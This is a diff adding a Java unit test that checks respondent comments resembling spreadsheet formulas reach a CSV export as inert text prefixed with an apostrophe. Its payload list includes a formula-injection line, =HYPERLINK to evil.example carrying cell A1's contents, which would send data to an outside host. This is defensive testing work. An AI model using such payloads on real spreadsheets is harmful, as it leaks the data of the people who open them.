@@ -173,6 +173,32 @@ class ExportTest {
         assertTrue(csv.contains("(verborgen: minder dan 5)"));
     }
 
+    /**
+     * A respondent's text that Excel would run as a formula (OWASP's payloads) reaches the manager's CSV as plain
+     * text: read back as Excel reads it, no cell starts a formula and each text stands there after an apostrophe.
+     */
+    @Test
+    void formulasTypedByRespondentsDoNotRunInTheCsv() {
+        List<String> payloads = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=1+1", "+1+1", "-2+3", "@SUM(1+1)");
+        Respondents respondents = new Respondents(service);
+        for (String payload : payloads) {
+            respondents.finish(FLOW, "nl", Origin.team(team.id()), Map.of("opmerking", payload));
+        }
+        List<List<String>> records = nl.samenspraak.support.ExcelCsv.read(download("csv", "text/csv"));
+        int opmerking = records.get(0).indexOf("opmerking");
+        assertEquals(16, records.size(), "a header and fifteen respondents");
+        for (List<String> record : records) {
+            for (String cell : record) {
+                assertFalse(nl.samenspraak.support.ExcelCsv.runsAsFormula(cell), cell);
+            }
+        }
+        Set<String> texts = records.stream().map(r -> r.get(opmerking)).collect(Collectors.toSet());
+        for (String payload : payloads) {
+            assertTrue(texts.contains("'" + payload), payload + " kept as text in " + texts);
+        }
+        assertTrue(texts.containsAll(TURKISH), "ordinary texts unchanged");
+    }
+
     private static List<String> concat(List<String> a, List<String> b) {
         List<String> all = new ArrayList<>(a);
         all.addAll(b);
